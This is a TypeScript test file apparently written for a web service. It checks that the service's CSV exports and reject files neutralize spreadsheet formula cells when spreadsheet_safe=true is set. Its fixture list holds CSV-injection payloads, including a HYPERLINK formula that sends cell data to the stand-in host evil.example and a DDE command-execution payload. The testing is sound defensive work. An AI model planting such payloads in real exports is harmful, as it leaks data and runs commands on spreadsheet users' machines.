import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApp, type TestApp } from '../helpers/app.js';
import { sqliteBackend } from '../helpers/backends.js';

/** Cells a spreadsheet would run as a formula (OWASP: =, +, -, @, and tab / carriage return). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', "=cmd|' /C calc'!A0"];
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);

/** Parses CSV with papaparse (not the service's own reader). */
const cells = (text: string): string[][] => Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' }).data;

describe('CSV formula injection: spreadsheet_safe=true neutralizes formula cells', () => {
  let t: TestApp;
  let rejectsId: string;
  beforeAll(async () => {
    t = await startApp(sqliteBackend);
    // Departments and jobs named like formulas, each with hires in 2021; one plain department
    // without hires so the formula ones are above the mean.
    const departments = [...FORMULAS.map((f, i) => ({ id: i + 1, department: f })), { id: 99, department: 'Plain' }];
    expect((await t.app.inject({ method: 'POST', url: '/batch/departments', payload: departments })).statusCode).toBe(201);
    expect(
      (await t.app.inject({ method: 'POST', url: '/batch/jobs', payload: FORMULAS.map((f, i) => ({ id: i + 1, job: f })) })).statusCode,
    ).toBe(201);
    const hires = FORMULAS.map((f, i) => ({ id: i + 1, name: f, datetime: '2021-05-01T00:00:00Z', department_id: i + 1, job_id: i + 1 }));
    expect((await t.app.inject({ method: 'POST', url: '/batch/hired_employees', payload: hires })).statusCode).toBe(201);
    // Rejected lines holding formulas, in their id, their name, and a wrong field count.
    const rejected = ['=1+1,Name', '7,=HYPERLINK("x"),extra', '"@SUM(1)",x', '+5,-3', '8,"=a,b"'].join('\n');
    const upload = await t.app.inject({
      method: 'POST',
      url: '/upload/departments',
      payload: rejected,
      headers: { 'content-type': 'text/csv' },
    });
    expect(upload.json().rejected).toBe(4);
    rejectsId = upload.json().upload_id;
  });
  afterAll(() => t?.close());

  for (const report of ['hired-employees', 'departments-above-mean']) {
    it(`/metrics/${report}: verbatim by default, every formula cell prefixed with ' when asked; numbers untouched`, async () => {
      const plain = cells((await t.app.inject(`/metrics/${report}?year=2021&format=csv`)).body);
      expect(plain.flat().filter(isFormula).length).toBeGreaterThanOrEqual(FORMULAS.length);
      const safe = cells(
        (await t.app.inject({ url: `/metrics/${report}?year=2021&spreadsheet_safe=true`, headers: { accept: 'text/csv' } })).body,
      );
      expect(safe.flat().filter(isFormula)).toEqual([]);
      expect(safe.length).toBe(plain.length);
      for (const [r, row] of safe.entries()) {
        for (const [c, cell] of row.entries()) {
          const original = plain[r]![c]!;
          expect(cell).toBe(isFormula(original) ? `'${original}` : original);
        }
      }
    });
  }

  it('rejects.csv?annotate=true: the raw lines and reasons neutralized when asked', async () => {
    const plain = cells((await t.app.inject(`/uploads/${rejectsId}/rejects.csv?annotate=true`)).body);
    expect(plain.flat().filter(isFormula).length).toBeGreaterThanOrEqual(2);
    const safe = cells((await t.app.inject(`/uploads/${rejectsId}/rejects.csv?annotate=true&spreadsheet_safe=true`)).body);
    expect(safe[0]).toEqual(['line', 'reason', 'raw']);
    expect(safe.flat().filter(isFormula)).toEqual([]);
    expect(safe.slice(1).map((row) => row[2])).toEqual(plain.slice(1).map((row) => (isFormula(row[2]!) ? `'${row[2]}` : row[2])));
  });

  it('rejects.csv (the lines as sent): verbatim by default; with spreadsheet_safe=true, every field neutralized', async () => {
    const raw = (await t.app.inject(`/uploads/${rejectsId}/rejects.csv`)).body;
    expect(raw).toBe(['=1+1,Name', '7,=HYPERLINK("x"),extra', '"@SUM(1)",x', '+5,-3'].map((l) => `${l}\r\n`).join(''));
    const safe = cells((await t.app.inject(`/uploads/${rejectsId}/rejects.csv?spreadsheet_safe=true`)).body);
    expect(safe).toEqual([
      ["'=1+1", 'Name'],
      ['7', '\'=HYPERLINK("x")', 'extra'],
      ["'@SUM(1)", 'x'],
      ["'+5", "'-3"],
    ]);
  });
});
